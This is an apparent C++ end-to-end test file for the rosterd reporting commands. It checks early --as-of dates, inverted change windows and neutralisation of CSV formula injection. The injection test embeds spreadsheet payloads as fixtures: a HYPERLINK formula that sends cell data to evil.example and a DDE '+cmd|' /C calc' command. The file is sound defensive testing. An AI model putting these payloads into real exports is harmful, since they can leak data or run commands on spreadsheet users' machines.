// What the reporting commands refuse or defuse, with the real binary on databases it
// synced from the simulator: a `users --as-of` before the history starts (unknown,
// not "nobody"), a `changes` window that ends before it starts, and CSV cells that a
// spreadsheet would run as formulas.

#include <simdjson.h>

#include <algorithm>

#include "audit_support.hpp"
#include "harness.hpp"

namespace rosterd::testing {
namespace {

using sim::SimUser;

class ReportGuardsE2e : public EngineE2eTest {
 protected:
  ProcessResult report(std::vector<std::string> args) {
    args.push_back("--database");
    args.push_back(db_location());
    return run_rosterd(args);
  }
  void synced() {
    const auto r = sync();
    ASSERT_EQ(r.exit_code, 0) << r.all();
  }
  // The first run of `source` (of any, when empty) as recorded.
  std::string first_start(const std::string& source = "") {
    return value("SELECT started_at FROM sync_runs" + (source.empty() ? "" : " WHERE source = '" + source + "'") +
                 " ORDER BY id LIMIT 1");
  }
};

TEST_P(ReportGuardsE2e, UsersAsOfBeforeTheFirstSyncSaysSoAndFails) {
  auto& sw = add_tenant("sw", "class4", 5, 3);
  auto& projects = add_tenant("projects", "worksection", 4, 4);
  write_config({{sw}});
  synced();
  const auto between = now_timestamp();  // after sw's first run, before projects' first
  write_config({{sw}, {projects}});
  synced();
  const auto first = first_start();
  ASSERT_LT(first, between);

  const std::string before_all = "2000-01-01T00:00:00.000Z";
  for (const std::string format : {"table", "csv", "json"}) {
    const auto r = report({"users", "--as-of", "2000-01-01", "--format", format});
    EXPECT_EQ(r.exit_code, 1) << format;
    EXPECT_EQ(r.out, "") << format << ": no empty table that reads as 'nobody'";
    EXPECT_EQ(r.err, "rosterd: no sync had run by " + before_all + "; the first run of sw/users started at " + first +
                         " (give --as-of " + first + " or later)\n")
        << format;
  }

  // Per source: projects had not run yet at `between`, sw had.
  const auto early = report({"users", "--source", "projects", "--as-of", between});
  EXPECT_EQ(early.exit_code, 1);
  EXPECT_EQ(early.err, "rosterd: no sync of projects had run by " + between + "; the first run of projects/users "
                       "started at " + first_start("projects") + " (give --as-of " + first_start("projects") +
                       " or later)\n");
  const auto present = report({"users", "--source", "sw", "--as-of", between, "--format", "csv"});
  EXPECT_EQ(present.exit_code, 0) << present.err;
  EXPECT_EQ(parse_csv(present.out).size(), sw.users().size() + 1);
  const auto whole = report({"users", "--as-of", between, "--format", "csv"});
  EXPECT_EQ(whole.exit_code, 0) << "the database's history had started: " << whole.err;

  const auto at_first = report({"users", "--as-of", first});
  EXPECT_EQ(at_first.exit_code, 0) << "the first run's own moment is inside the history: " << at_first.err;

  const auto unknown = report({"users", "--source", "nosuch", "--as-of", between});
  EXPECT_EQ(unknown.exit_code, 1);
  EXPECT_EQ(unknown.err, "rosterd: no sync of nosuch had run by " + between + "; this database records no run of it yet\n");
}

TEST_P(ReportGuardsE2e, ChangesWithAnUntilNotAfterItsSinceIsAUsageError) {
  auto& sw = add_tenant("sw", "class4", 3, 5);
  write_config({{sw}});
  synced();

  const auto swapped = report({"changes", "--since", "2026-03-02", "--until", "2026-03-01"});
  EXPECT_EQ(swapped.exit_code, 2);
  EXPECT_EQ(swapped.out, "");
  EXPECT_EQ(swapped.err,
            "rosterd: changes: --until 2026-03-01 (2026-03-01T00:00:00.000Z) is not after --since 2026-03-02 "
            "(2026-03-02T00:00:00.000Z); give an --until later than the --since\n");

  const auto same = report({"changes", "--since", "2026-03-01T00:00:00.000Z", "--until", "2026-03-01"});
  EXPECT_EQ(same.exit_code, 2) << "an empty window matches nothing either";

  const auto against_default = report({"changes", "--until", "48h"});
  EXPECT_EQ(against_default.exit_code, 2);
  EXPECT_TRUE(against_default.err.starts_with("rosterd: changes: --until 48h (")) << against_default.err;
  EXPECT_NE(against_default.err.find("is not after --since 24h (the default, "), std::string::npos)
      << against_default.err;
  EXPECT_EQ(std::count(against_default.err.begin(), against_default.err.end(), '\n'), 1);

  const auto window = report({"changes", "--since", "2000-01-01", "--until", "2200-01-01", "--json"});
  EXPECT_EQ(window.exit_code, 0) << window.err;
  simdjson::dom::parser parser;
  EXPECT_EQ(parser.parse(window.out).get_array().size(), sw.users().size()) << "the first run's additions";
}

TEST_P(ReportGuardsE2e, CsvCellsThatASpreadsheetWouldRunAreNeutralized) {
  auto& sw = add_tenant("sw", "class4", 8, 6);
  write_config({{sw}});
  const auto listed = sw.users();
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
  const std::string command = "+cmd|' /C calc'!A0";
  const std::string minus = "-2+3@x.example";
  const std::string at = "@sum(1+1)";
  sw.update_user(listed[0].id, [&](SimUser& u) {
    u.first_name = formula;
    u.last_name = "";
  });
  sw.update_user(listed[1].id, [&](SimUser& u) { u.username = command; });
  sw.update_user(listed[2].id, [&](SimUser& u) { u.email = minus; });
  sw.update_user(listed[3].id, [&](SimUser& u) { u.role = at; });
  synced();
  // std::string text is trimmed when stored, so a leading tab or CR can only be a stored value
  // of another origin (an older rosterd, an edit): put them there.
  const std::string character = engine() == Engine::postgresql ? "chr" : "char";
  write_sql("UPDATE user_versions SET full_name = " + character + "(9) || '=1+1' WHERE external_id = '" +
            std::to_string(listed[4].id) + "'");
  write_sql("UPDATE user_versions SET user_group = " + character + "(13) || '=2+2' WHERE external_id = '" +
            std::to_string(listed[5].id) + "'");
  const std::map<std::string, std::pair<std::string, std::string>> dangerous{
      // id -> (column, stored value)
      {std::to_string(listed[0].id), {"full_name", formula}},
      {std::to_string(listed[1].id), {"username", command}},
      {std::to_string(listed[2].id), {"email", minus}},
      {std::to_string(listed[3].id), {"role", at}},
      {std::to_string(listed[4].id), {"full_name", "\t=1+1"}},
      {std::to_string(listed[5].id), {"user_group", "\r=2+2"}},
  };

  const auto csv = report({"users", "--format", "csv", "--all"});
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  const auto table = parse_csv(csv.out);
  ASSERT_EQ(table.size(), listed.size() + 1) << csv.out;
  const auto& header = table[0];
  const auto column = [&](const std::string& name) {
    return static_cast<std::size_t>(std::find(header.begin(), header.end(), name) - header.begin());
  };
  std::size_t neutralized = 0;
  for (std::size_t r = 1; r < table.size(); ++r) {
    const auto& row = table[r];
    ASSERT_EQ(row.size(), header.size());
    for (std::size_t c = 0; c < row.size(); ++c) {
      EXPECT_TRUE(row[c].empty() || std::string_view("=+-@\t\r").find(row[c][0]) == std::string_view::npos)
          << header[c] << " of " << row[1] << " would be a formula: " << row[c];
    }
    const auto it = dangerous.find(row[1]);
    if (it == dangerous.end()) continue;
    EXPECT_EQ(row[column(it->second.first)], "'" + it->second.second) << it->second.first;
    ++neutralized;
  }
  EXPECT_EQ(neutralized, dangerous.size());
  EXPECT_EQ(table[1][0], "sw") << "ordinary cells are unchanged";

  // JSON and the table show the stored values as they are.
  const auto json = report({"users", "--format", "json"});
  ASSERT_EQ(json.exit_code, 0) << json.err;
  simdjson::dom::parser parser;
  std::size_t exact = 0;
  for (auto u : parser.parse(json.out).get_array()) {
    const auto it = dangerous.find(std::string(u["external_id"].get_string().value()));
    if (it == dangerous.end()) continue;
    EXPECT_EQ(text_or_null(u[it->second.first]), it->second.second);
    ++exact;
  }
  EXPECT_EQ(exact, dangerous.size());
  const auto text = report({"users"});
  ASSERT_EQ(text.exit_code, 0) << text.err;
  EXPECT_TRUE(has_line(text.out, {std::to_string(listed[1].id), command})) << text.out;
  EXPECT_TRUE(has_line(text.out, {std::to_string(listed[3].id), at})) << text.out;
  EXPECT_EQ(text.out.find("'" + command), std::string::npos) << text.out;
}

INSTANTIATE_TEST_SUITE_P(Engines, ReportGuardsE2e, k_engines, engine_test_name);

}  // namespace
}  // namespace rosterd::testing
